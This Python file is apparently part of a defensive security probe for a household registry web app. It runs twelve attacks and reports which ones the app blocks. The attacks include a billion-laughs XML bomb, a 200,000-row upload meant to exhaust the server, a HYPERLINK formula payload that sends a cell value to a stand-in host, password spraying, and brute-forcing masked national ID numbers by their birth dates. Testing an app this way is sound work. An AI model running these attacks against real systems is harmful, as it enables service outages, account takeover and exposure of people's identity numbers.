                               " an objection before the notice starts is refused)")
        except NotReached as exc:
            details.append(f"exit notice not reached: {exc}")
        details += [f"cleanup: {c}" for c in cleanup]
        if through:
            return Result(4, "Future dates", THROUGH, "; ".join(through), details)
        if not any("exit notice of" in d for d in details):
            return Result(4, "Future dates", NOT_REACHED,
                          "monitoring refused future dates, but the exit notice was not "
                          "reached: " + next(d for d in details if "not reached" in d),
                          details)
        return Result(4, "Future dates", BLOCKED,
                      f"shock, monitoring step and exit notice dated {ahead} all refused",
                      details)

    def attack_upload_exhaustion(self) -> Result:
        """5. Upload exhaustion: a small XLSX that expands to 200,000 rows must not tie up a
        request (and a worker) for long. Proves whether one insider can keep the server busy
        (and SQLite's writer locked) with a file that fits the upload limit."""
        rows = 200_000
        with tempfile.TemporaryDirectory(prefix="tuopin-probe-") as folder:
            path = Path(folder) / f"{MARK}-rows.xlsx"
            book = openpyxl.Workbook(write_only=True)
            sheet = book.create_sheet("households")
            sheet.append(["number", "village_code", "status"])
            village = int(self.village)
            for i in range(rows):  # valid rows of the cadre's village, new numbers
                sheet.append([900_000_000 + i, village, "ordinary"])
            book.save(path)
            body = self._without_cell_references(path.read_bytes())
        cadre = self.browser("village")
        cadre.csrf()
        latencies: list[float] = []
        failures: list[str] = []
        stop = threading.Event()

        login: list[str] = []

        def log_in_meanwhile() -> None:
            """A login writes (it clears the account's failures): it waits for the writer."""
            stop.wait(3.0)
            if stop.is_set():
                return
            other = Browser(self.base_url)
            began = time.monotonic()
            try:
                answer = other.login(DEMO["auditor"], self.passwords[DEMO["auditor"]])
                login.append(f"a login started meanwhile answered HTTP {answer.status_code} "
                             f"after {time.monotonic() - began:.1f} s")
            except httpx.HTTPError as exc:
                login.append(f"a login started meanwhile failed: {type(exc).__name__}")
            finally:
                other.close()

        def watch() -> None:
            with httpx.Client(base_url=self.base_url, timeout=30) as other:
                while not stop.is_set():
                    began = time.monotonic()
                    try:
                        other.get("/login")
                        latencies.append(time.monotonic() - began)
                    except httpx.HTTPError as exc:
                        failures.append(type(exc).__name__)
                    stop.wait(0.5)

        watcher = threading.Thread(target=watch, daemon=True)
        writer = threading.Thread(target=log_in_meanwhile, daemon=True)
        watcher.start()
        writer.start()
        began = time.monotonic()
        try:
            answer = cadre.post("/import", {"kind": "households"}, timeout=UPLOAD_TIMEOUT,
                                files={"file": (path.name, body, "application/vnd.openxml"
                                                "formats-officedocument.spreadsheetml.sheet")})
            status = str(answer.status_code)
            said = problem_text(answer.text, 120)
        except httpx.TimeoutException:
            status, said = f"no answer within {UPLOAD_TIMEOUT:.0f} s", ""
        seconds = time.monotonic() - began
        if status == "303":  # checked in the background: follow it to its end
            page = cadre.follow(answer.headers.get("location", ""))
            state = re.search(r'data-state="([a-z]+)"', page.text)
            said = (f"checked in the background, then {state.group(1) if state else '?'}: "
                    + problem_text(page.text, 160))
            answer = page
        writer.join(timeout=TIMEOUT + 5)
        stop.set()
        watcher.join(timeout=35)
        counts = dict(re.findall(r'id="count-(rows|inserted)">(\d+)<', answer.text)) \
            if status.isdigit() else {}
        others = (f"{len(latencies)} GET /login meanwhile, slowest {max(latencies):.2f} s"
                  if latencies else "no other request answered meanwhile")
        if failures:
            others += f", {len(failures)} failed"
        evidence = (f"{len(body) // 1024} KB XLSX of {rows:,} rows: upload answered HTTP "
                    f"{status} after {seconds:.1f} s"
                    + (f" ({counts.get('rows')} rows read, {counts.get('inserted')} would be "
                       "inserted)" if counts else "")
                    + f"; {others}" + (f"; {login[0]}" if login else ""))
        details = [f"answer: {said}"] if said else []
        if seconds <= 2.0:
            return Result(5, "Upload exhaustion", BLOCKED, evidence, details)
        return Result(5, "Upload exhaustion", THROUGH, evidence, details)

    @staticmethod
    def _without_cell_references(workbook: bytes) -> bytes:
        """The workbook with its rows' and cells' optional r="..." references left out (as
        some writers do), so that 20 MB of sheet XML packs into a few hundred KB."""
        source = zipfile.ZipFile(io.BytesIO(workbook))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
            for item in source.infolist():
                data = source.read(item.filename)
                if item.filename.startswith("xl/worksheets/sheet"):
                    data = re.sub(rb' r="[A-Z]*[0-9]+"| t="n"', b"", data)
                target.writestr(item.filename, data)
        return out.getvalue()

    def _foreign_people(self) -> list[dict[str, str]]:
        """Members of households in other villages, read (in full) by the county officer."""
        county, cadre = self.browser("county"), self.browser("village")
        villages = [v for v in re.findall(r'href="/villages/(\d{12})"',
                                          county.get("/regions").text) if v != self.village]
        people: list[dict[str, str]] = []
        for village in villages[:3]:
            page = county.get(f"/villages/{village}").text
            name = re.search(r"<h1>(.*?) <small", page)
            for number in re.findall(r'href="/households/(\d+)"', page)[:3]:
                if cadre.get(f"/households/{number}").status_code != 404:
                    continue  # the cadre sees it: not out of scope
                detail = county.get(f"/households/{number}").text
                members = re.search(r'(?s)<table id="members">(.*?)</table>', detail)
                for row in re.findall(r"(?s)<tr[^>]*>(.*?)</tr>",
                                      members.group(1) if members else ""):
                    ids = ID_RE.findall(row)
                    cells = re.findall(r"(?s)<td>(.*?)</td>", row)
                    if ids and cells:
                        people.append({"id": ids[0], "name": text_of(cells[0]).split(" (")[0],
                                       "number": number, "village": village,
                                       "village_name": text_of(name.group(1)) if name else ""})
            if len(people) >= 6:
                break
        if not people:
            raise NotReached("the county officer sees no member of another village")
        return people

    def attack_existence_oracle(self) -> Result:
        """6. Existence oracle: registering a household (or adding a member) with someone
        else's ID number, or a household number of another region, must not tell the cadre
        whose it is, and repeated tries must be throttled. Proves whether a cadre can look
        up people and households outside their region through the registration forms."""
        people = self._foreign_people()
        home = self.register("history", status="ordinary")
        known = self.accounts()
        self.ensure_account(ORACLE_ACCOUNT, "village_cadre", self.village, known)
        cadre = Browser(self.base_url)
        if cadre.login(ORACLE_ACCOUNT, self.set_password(ORACLE_ACCOUNT)).status_code != 303:
            raise NotReached(f"{ORACLE_ACCOUNT} cannot log in")
        cadre.english()
        self.browsers[ORACLE_ACCOUNT] = cadre
        page = cadre.get(f"/households/new?village={self.village}")
        form = form_at(page.text, "/households/new")
        if form is None:
            raise NotReached("no registration form for the cadre")
        foreign_numbers = sorted({p["number"] for p in people})
        named: list[str] = []
        revealed = 0
        statuses: list[int] = []
        throttled_at: int | None = None
        details: list[str] = []
        attempts = 24
        for i in range(attempts):
            person = people[i % len(people)]
            mode = ("register-id", "member-id", "register-number", "import-member")[i % 4]
            tag = secrets.token_hex(2)
            by_number = mode in ("register-number", "import-member")
            tried = foreign_numbers[(i // 4) % len(foreign_numbers)] if by_number \
                else person["id"]
            other = random_person(self.village[:6], self.rng, male=True)
            if mode == "member-id":
                answer = cadre.post(f"/households/{home['number']}/members/new", {
                    "id_number": person["id"], "name": f"探针丙{tag}", "relation": "child"})
            elif mode == "import-member":  # a members file: a new head for that household
                rows = ("household_number,id_number,name,relation\n"
                        f"{tried},{other['id_number']},探针戊{tag},head\n")
                answer = cadre.upload("members", f"{MARK}-member.csv", rows.encode(),
                                      "text/csv")
            else:
                data = form.data(**{
                    "village_code": self.village, "status": "ordinary",
                    "address": f"{MARK} oracle {tag}",
                    "number": tried if mode == "register-number" else "",
                    "members.0.id_number": person["id"] if mode == "register-id"
                    else other["id_number"],
                    "members.0.name": f"探针丁{tag}", "members.0.relation": "head"})
                answer = cadre.post("/households/new", data)
            statuses.append(answer.status_code)
            if answer.status_code == 303:
                saved = answer.headers.get("location")
                named.append(f"attempt {i + 1} ({mode}) was SAVED: {saved}")
                continue
            body = answer.text
            if i < 4:
                details.append(f"{mode} with {tried}: HTTP {answer.status_code}: "
                               f"{problem_text(body, 170)}")
            if by_number:
                owners = [p for p in people if p["number"] == tried]
                leak = [x for x in sorted({o["name"] for o in owners})
                        + [owners[0]["village_name"]] if x and x in body]
            else:
                leak = [x for x in (person["number"], person["name"], person["village"],
                                    person["village_name"]) if x and x in body]
            shows = "already registered" in body or "already has a head" in body
            if leak:
                named.append(f"{mode} ({tried}) names {', '.join(leak)}")
            if shows:
                revealed += 1
            if answer.status_code == 429 or (i >= 3 and not shows and answer.status_code >= 400):
                throttled_at = throttled_at or i + 1
        counts = ", ".join(f"{s}×{statuses.count(s)}" for s in sorted(set(statuses)))
        evidence = (f"{attempts} attempts by {ORACLE_ACCOUNT}, a cadre of the demo village "
                    f"(HTTP {counts}); "
                    f"{revealed} answers confirmed that the person or household exists "
                    "outside the cadre's region; "
                    + ("throttled from attempt " + str(throttled_at) if throttled_at
                       else "never throttled"))
        details.append(f"foreign people tried: {len(people)} from villages "
                       f"{', '.join(sorted({p['village'] for p in people}))}")
        if named:
            evidence += "; the answers name: " + "; ".join(sorted(set(named))[:4])
        verdict = BLOCKED if not named and throttled_at and throttled_at <= 21 else THROUGH
        return Result(6, "Existence oracle", verdict, evidence, details)

    def _xlsx_bytes(self, rows: list[list[Any]], patch: Callable[[str], str] | None = None,
                    truncate: bool = False) -> bytes:
        """A workbook of ``rows``, its sheet XML patched or cut off in the middle."""
        book = openpyxl.Workbook()
        sheet = book.active
        for row in rows:
            sheet.append(row)
        raw = io.BytesIO()
        book.save(raw)
        source = zipfile.ZipFile(io.BytesIO(raw.getvalue()))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
            for item in source.infolist():
                data = source.read(item.filename)
                if item.filename == "xl/worksheets/sheet1.xml":
                    text = data.decode("utf-8")
                    if patch is not None:
                        text = patch(text)
                    data = text.encode("utf-8")
                    if truncate:
                        data = data[: len(data) // 2]
                target.writestr(item, data)
        return out.getvalue()

    def attack_malformed_files(self) -> Result:
        """7. Malformed files: a truncated sheet, a 3000-digit number and a billion-laughs
        DTD must each be refused with a 4xx page that says what is wrong. Proves whether a
        crafted workbook crashes the importer (500), or makes the XML parser expand entities
        into the answer."""
        cadre = self.browser("village")
        header = ["household_number", "id_number", "name", "relation"]
        number = f"{self.village}0001"
        cases: dict[str, tuple[str, bytes]] = {}
        good = [header, [number, "placeholder", "探针", "child"]]
        good += [[number, f"x{i}", "探针", "child"] for i in range(40)]
        cases["truncated sheet1.xml"] = ("members", self._xlsx_bytes(good, truncate=True))
        placeholder = 987654321012
        digits = "9" * 3000

        def huge(text: str) -> str:
            return text.replace(f"<v>{placeholder}</v>", f"<v>{digits}</v>")

        cases["3000-digit numeric ID"] = ("members", self._xlsx_bytes(
            [header, [number, placeholder, "探针", "child"]], patch=huge))
        laughs = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'
                         for i in range(1, 10))
        dtd = f'<!DOCTYPE worksheet [<!ENTITY lol0 "lol">{laughs}]>'

        def bomb(text: str) -> str:
            at = text.index("?>") + 2 if text.startswith("<?xml") else 0
            text = text[:at] + dtd + text[at:]
            return re.sub(r'<c r="C2"[^>]*>.*?</c>',
                          '<c r="C2" t="inlineStr"><is><t>&lol9;</t></is></c>', text, count=1)

        cases["billion laughs"] = ("members", self._xlsx_bytes(
            [header, [number, "110101199003070000", "probe", "child"]], patch=bomb))
        failed: list[str] = []
        details: list[str] = []
        shown: list[str] = []
        for name, (kind, body) in cases.items():
            try:
                answer = cadre.upload(kind, f"{MARK}.xlsx", body, "application/vnd.openxml"
                                      "formats-officedocument.spreadsheetml.sheet",
                                      timeout=UPLOAD_TIMEOUT)
            except httpx.TimeoutException:
                failed.append(f"{name}: no answer within {UPLOAD_TIMEOUT:.0f} s")
                continue
            except httpx.TransportError as exc:  # the server dropped the connection
                failed.append(f"{name}: no HTTP answer, the connection was dropped "
                              f"({type(exc).__name__}: {exc}; a server error)")
                details.append(f"{name}: {type(exc).__name__}: {exc}")
                continue
            message = problem_text(answer.text, 110) if "html" in answer.headers.get(
                "content-type", "") else text_of(answer.text, 80)
            message = message.removeprefix("validation report: ")
            expanded = "lol" * 12 in answer.text
            details.append(f"{name}: HTTP {answer.status_code}: {message}")
            shown.append(f"{name}: HTTP {answer.status_code} '{message[:70]}'")
            # refused with a clear problem: a 4xx page, or the upload's page that shows
            # the check's problems (a bad cell with its row, a damaged file)
            clear = answer.status_code < 500 and bool(re.search(
                r'id="file-problems"|class="problem|id="problems"', answer.text))
            if expanded:
                failed.append(f"{name}: the entities were expanded into the page")
            elif answer.status_code >= 500:
                failed.append(f"{name}: HTTP {answer.status_code} '{message[:40]}'")
            elif not clear:
                failed.append(f"{name}: HTTP {answer.status_code}, no problem shown "
                              f"('{message[:90]}')")
        if failed:
            return Result(7, "Malformed files", THROUGH, "; ".join(failed), details)
        return Result(7, "Malformed files", BLOCKED, "; ".join(shown), details)

    def attack_formula_injection(self) -> Result:
        """8. Formula injection: cell text from an uploaded file that starts with = + - @
        must not come back as a live formula in the problem reports (CSV and XLSX) that
        officers open in Excel. Proves whether an insider can plant a formula that runs on
        a colleague's machine."""
        cadre = self.browser("village")
        payloads = ['=HYPERLINK("http://probe.invalid/?leak="&A1,"click")', "+1+2",
                    "-1+2", "@SUM(1,2)"]
        rows = []
        for i, payload in enumerate(payloads):
            rows.append({"number": f"{self.village}{9990 + i}", "village_code": self.village,
                         "address": payload + " " + "x" * 220, "status": payload})
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
        checked = cadre.upload("households", f"{MARK}-formulas.csv",
                               out.getvalue().encode(), "text/csv")
        download = form_at(checked.text, re.compile(r"/import/[0-9a-f]{64}/problems"))
        link = re.search(r'href="(/import/[0-9a-f]{32}/problems)\.csv"', checked.text)
        if download is None and link is None:
            raise NotReached(f"the check gave no problem report (HTTP {checked.status_code}: "
                             f"{problem_text(checked.text)})")

        def report_of(fmt: str) -> httpx.Response:
            if link is not None:  # downloads are links of the upload's page
                return cadre.get(f"{link.group(1)}.{fmt}")
            assert download is not None
            return cadre.post(download.action, download.data(fmt=fmt))

        def held(value: str) -> tuple[str, bool] | None:
            """(payload, written raw) when a report cell holds one of the payloads."""
            for payload in payloads:
                if value.startswith(payload[:12]):
                    return payload, True
                if value[:1] in ("'", "\t") and value[1:].startswith(payload[:12]):
                    return payload, False
            return None

        raw: dict[str, list[str]] = {"CSV": [], "XLSX": []}
        neutral: dict[str, list[str]] = {"CSV": [], "XLSX": []}
        details: list[str] = []
        report = report_of("csv")
        cells = [c for r in csv.reader(io.StringIO(report.content.decode("utf-8-sig")))
                 for c in r]
        for cell in cells:
            found = held(cell)
            if found:
                (raw if found[1] else neutral)["CSV"].append(found[0])
        details.append(f"CSV report HTTP {report.status_code}: {len(cells)} cells")
        report = report_of("xlsx")
        try:
            book = openpyxl.load_workbook(io.BytesIO(report.content))
        except (zipfile.BadZipFile, OSError, KeyError, ValueError) as exc:
            raise NotReached(f"the XLSX report cannot be read: {exc}") from exc
        formulas = 0
        with zipfile.ZipFile(io.BytesIO(report.content)) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    formulas += len(re.findall(rb"<f[ >]", z.read(name)))
        kinds: set[str] = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    found = held(cell.value) if isinstance(cell.value, str) else None
                    if not found:
                        continue
                    kinds.add(str(cell.data_type) + (" quotePrefix" if cell.quotePrefix
                                                     else ""))
                    live = found[1] and cell.data_type == "f"
                    guarded = not found[1] or cell.data_type == "s" or cell.quotePrefix
                    (raw if live or not guarded else neutral)["XLSX"].append(found[0])
        details.append(f"XLSX report HTTP {report.status_code}: {formulas} <f> formula "
                       f"elements; payload cell types: {', '.join(sorted(kinds)) or '-'}")
        if formulas:
            raw["XLSX"].append(f"{formulas} formula elements")
        if not any(raw.values()) and not any(neutral.values()):
            raise NotReached("the payloads do not appear in the problem reports")

        def said(fmt: str) -> str:
            if raw[fmt]:
                starts = sorted({p[:10] for p in raw[fmt]})
                return (f"{fmt} report writes {len(raw[fmt])} payload cells raw "
                        f"({', '.join(repr(x) for x in starts)})")
            how = "with a leading '" if fmt == "CSV" else "as string cells (type s)"
            return f"{fmt} report neutralises {len(neutral[fmt])} payload cells {how}"

        evidence = f"{said('CSV')}; {said('XLSX')}"
        verdict = THROUGH if any(raw.values()) else BLOCKED
        return Result(8, "Formula injection", verdict, evidence, details)

    def attack_non_finite_money(self) -> Result:
        """9. Non-finite money: a shock's amount of 1e400, inf or nan must be refused.
        Proves whether an insider can store amounts that break sums, reports and exports."""
        home = self.register("monitoring", status="ordinary")
        number = home["number"]
        cadre = self.browser("village")
        self.cases(cadre, number)  # the server's date
        before = self.history_events(cadre, number, "shock")
        stored, details = [], []
        for amount in ("1e400", "inf", "nan"):
            answer = cadre.post(f"/households/{number}/monitoring/shock", {
                "kind": "lost_work", "occurred_on": self.today.isoformat(), "amount": amount,
                "note": f"{MARK}: amount {amount}"})
            details.append(f"amount {amount}: HTTP {answer.status_code}")
            if answer.status_code < 400:
                stored.append(f"{amount} accepted (HTTP {answer.status_code})")
        after = self.history_events(cadre, number, "shock")
        new = after[: max(0, len(after) - len(before))]
        shown = [re.search(r"amount\s*:\s*\S+\s*→\s*(\S+)", e) for e in new]
        values = [m.group(1) for m in shown if m]
        page = cadre.get(f"/households/{number}")
        details.append(f"household page afterwards: HTTP {page.status_code}")
        details += self.reject_open_cases(number)
        if stored or new:
            return Result(9, "Non-finite money", THROUGH,
                          "; ".join(stored) + f"; {len(new)} shocks stored, amounts in the "
                          f"history: {', '.join(values) or '?'}", details)
        return Result(9, "Non-finite money", BLOCKED,
                      "1e400, inf and nan refused (" + ", ".join(
                          d.split(": ")[1] for d in details[:3]) + "), nothing stored",
                      details)

    def attack_password_spraying(self) -> Result:
        """10. Password spraying: one address trying one wrong password on many usernames
        must be throttled. Proves whether the login limit (per username and address) stops
        an insider guessing a common password across every account."""
        known = self.accounts()
        targets = [u for u in DEMO.values() if u != DEMO["auditor"]]
        for i in range(1, 8):
            name = f"{SPRAY_PREFIX}{i:02d}"
            self.ensure_account(name, "auditor", self.county, known)
            targets.append(name)
        # From a loopback address of its own when the server is on this machine: a limit
        # per address then throttles this attack, not the rest of the probe (or its next run).
        host = httpx.URL(self.base_url).host
        address = f"127.{self.rng.randrange(1, 255)}.{self.rng.randrange(0, 256)}." \
            f"{self.rng.randrange(2, 255)}" if host.startswith("127.") else None
        b = Browser(self.base_url, local_address=address)
        statuses: list[int] = []
        first_429: int | None = None
        for i, username in enumerate(targets, start=1):
            answer = b.login(username, "Spring2024!")
            statuses.append(answer.status_code)
            if answer.status_code == 429 and first_429 is None:
                first_429 = i
        final = b.login(DEMO["auditor"], self.passwords[DEMO["auditor"]])
        b.close()
        counts = ", ".join(f"{s}×{statuses.count(s)}" for s in sorted(set(statuses)))
        evidence = (f"1 wrong password against {len(targets)} usernames from one address "
                    f"({address or 'this host'}): "
                    f"HTTP {counts}; then demo-auditor with its password: HTTP "
                    f"{final.status_code}")
        details = []
        for username in DEMO.values():  # cleanup: a good login clears the failures
            if username in targets and username in self.passwords:
                fresh = Browser(self.base_url, local_address=address)
                details.append(f"cleanup login {username}: HTTP "
                               f"{fresh.login(username, self.passwords[username]).status_code}")
                fresh.close()
        if first_429 is not None or final.status_code == 429:
            return Result(10, "Password spraying", BLOCKED,
                          evidence + f"; throttled from attempt {first_429 or len(targets) + 1}",
                          details)
        return Result(10, "Password spraying", THROUGH, evidence + "; never throttled", details)

    def _masked_heads(self, count: int) -> list[tuple[str, dict[str, str], str]]:
        """``count`` households the cadre registered: (number, head, masked ID shown)."""
        cadre = self.browser("village")
        found = []
        for i in range(count):
            home = self.register(f"unmask-{i}", status="ordinary")
            page = cadre.get(f"/households/{home['number']}").text
            head = home["members"][0]
            masked = re.search(rf"{head['id_number'][:6]}\*{{8}}{head['id_number'][-4:]}",
                               page)
            if masked is None:
                raise NotReached(f"the cadre sees {home['number']}'s head's ID unmasked")
            found.append((home["number"], head, masked.group(0)))
        return found

    def _recorded_id_searches(self) -> int | None:
        """How many searches by a full ID number the audit trail records (None: a tuopin
        that records none as such)."""
        done = self.cli("audit", "log", "--entity", "registry", "--id", "id_number",
                        "--limit", "100000", "--format", "json")
        if done.returncode != 0:
            return None
        start = done.stdout.find("[")
        events = json.loads(done.stdout[start:]) if start >= 0 else []
        return sum(1 for e in events if e.get("action") == "search_id")

    def attack_unmasking_by_search(self) -> Result:
        """11. Unmasking by search: the household page masks an ID number's birth date, but
        a search by a full ID number answers whether it matches, so trying the birth dates
        whose check character fits finds the number in a few dozen searches - a reveal that
        the reveal button would have recorded. Blocked when every such search is recorded
        in the audit trail (as a reveal is) and refused past a quota, so that no masked role
        unmasks numbers in bulk or unseen."""
        cadre = self.browser("village")
        targets = self._masked_heads(3)
        before = self._recorded_id_searches()
        found, searches, refused_at = 0, 0, None
        for _, head, _ in targets:
            known = head["id_number"]
            born = date(int(known[6:10]), int(known[10:12]), int(known[12:14]))
            candidates = []
            for delta in range(-200, 200):
                first17 = known[:6] + (born + timedelta(days=delta)).strftime("%Y%m%d") \
                    + known[14:17]
                if check_char(first17) == known[17]:
                    candidates.append(first17 + known[17])
            self.rng.shuffle(candidates)
            for candidate in candidates:
                searches += 1
                answer = cadre.get("/households", params={"q": candidate})
                if answer.status_code == 429:
                    refused_at = searches
                    break
                if candidate == known and "/households/" in answer.text:
                    found += 1
                    break
            if refused_at:
                break
        while refused_at is None and searches < 400:  # go on until a quota (if any) refuses
            searches += 1
            first17 = targets[0][1]["id_number"][:6] + "19500101" + f"{searches % 1000:03d}"
            if cadre.get("/households", params={"q": first17 + check_char(first17)}) \
                    .status_code == 429:
                refused_at = searches
        after = self._recorded_id_searches()
        recorded = None if before is None or after is None else after - before
        evidence = (f"{searches} searches by full ID number by demo-village: {found} of "
                    f"{len(targets)} masked numbers found; "
                    + (f"refused (429) from search {refused_at}" if refused_at
                       else "never refused")
                    + (f"; {recorded} recorded in the audit trail" if recorded is not None
                       else "; none recorded in the audit trail"))
        accepted = (refused_at or searches + 1) - 1
        verdict = BLOCKED if refused_at and recorded == accepted else THROUGH
        return Result(11, "Unmasking by search", verdict, evidence)

    def attack_bulk_reveal(self) -> Result:
        """12. Bulk reveal: the reveal button is recorded, but a script could reveal every
        number in the region. Proves whether reveals are limited: blocked when they are
        refused past a daily quota."""
        cadre = self.browser("village")
        number, head, _ = self._masked_heads(1)[0]
        page = cadre.get(f"/households/{number}").text
        member = re.search(r'name="member_id" value="(\d+)"', page)
        if member is None:
            raise NotReached(f"no reveal button for a member of {number}")
        statuses = []
        for _ in range(150):
            answer = cadre.post(f"/households/{number}/reveal",
                                {"field": "id_number", "member_id": member.group(1)})
            statuses.append(answer.status_code)
            if answer.status_code == 429:
                break
        shown = statuses.count(200)
        evidence = (f"{len(statuses)} reveals of one ID number by demo-village: {shown} "
                    "answered in full"
                    + ("; refused (429) past the quota" if 429 in statuses
                       else "; never refused"))
        return Result(12, "Bulk reveal", BLOCKED if 429 in statuses else THROUGH, evidence)

    # running them --------------------------------------------------------------------------

    # the throttling attacks last, the load late
    ORDER = (1, 2, 3, 4, 9, 7, 8, 5, 11, 12, 6, 10)

    def attacks(self) -> dict[int, tuple[str, Callable[[], Result]]]:
        return {
            1: ("History leak", self.attack_history_leak),
            2: ("Status bypass", self.attack_status_bypass),
            3: ("Session replay", self.attack_session_replay),
            4: ("Future dates", self.attack_future_dates),
            5: ("Upload exhaustion", self.attack_upload_exhaustion),
            6: ("Existence oracle", self.attack_existence_oracle),
            7: ("Malformed files", self.attack_malformed_files),
            8: ("Formula injection", self.attack_formula_injection),
            9: ("Non-finite money", self.attack_non_finite_money),
            10: ("Password spraying", self.attack_password_spraying),
            11: ("Unmasking by search", self.attack_unmasking_by_search),
            12: ("Bulk reveal", self.attack_bulk_reveal),
        }

    def run(self, only: Iterable[int] | None = None,
            progress: Callable[[str], None] | None = None) -> list[Result]:
        self.setup()
        table = self.attacks()
        wanted = set(only or table)
        results: dict[int, Result] = {}
        for number in self.ORDER:
            if number not in wanted:
                continue
            name, attack = table[number]
            if progress:
                progress(f"[{number}] {name} ...")
            began = time.monotonic()
            try:
                results[number] = attack()
            except NotReached as exc:
                results[number] = Result(number, name, NOT_REACHED, str(exc))
            except httpx.HTTPError as exc:
                results[number] = Result(number, name, NOT_REACHED,
                                         f"HTTP failure: {type(exc).__name__}: {exc}")
            except Exception as exc:  # a page the probe did not expect: say so, go on
                results[number] = Result(number, name, NOT_REACHED,
                                         f"probe failure: {type(exc).__name__}: {exc}")
            results[number].details.append(f"took {time.monotonic() - began:.1f} s")
        for b in self.browsers.values():
            b.close()
        return [results[n] for n in sorted(results)]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--base-url", required=True, help="the running app, e.g. "
                        "http://127.0.0.1:8765")
    parser.add_argument("--database-url", required=True,
                        help="the app's database, for the tuopin CLI only (passwords)")
    parser.add_argument("--tuopin", default=".venv/bin/tuopin",
                        help="the tuopin command line (default: .venv/bin/tuopin)")
    parser.add_argument("--json", action="store_true", help="print a JSON list")
    parser.add_argument("--only", type=int, action="append", choices=range(1, 13),
                        metavar="N", help="run only attack N (repeatable)")
    parser.add_argument("--verbose", action="store_true", help="print each attack's details")
    args = parser.parse_args(argv)
    probe = Probe(args.base_url, args.database_url, args.tuopin)

    def progress(line: str) -> None:
        print(line, file=sys.stderr, flush=True)

    try:
        results = probe.run(args.only, progress if args.verbose else None)
    except ProbeError as exc:
        print(f"security probe: {exc}", file=sys.stderr)
        return 2
    if args.json:
        print(json.dumps([asdict(r) for r in results], ensure_ascii=False, indent=2))
    else:
        for r in results:
            print(f"{r.number:>2}. {r.attack:<18} {r.verdict:<11} {r.evidence}")
            if args.verbose:
                for d in r.details:
                    print(f"      - {d}")
    return 0 if all(r.verdict == BLOCKED for r in results) else 1


if __name__ == "__main__":
    sys.exit(main())
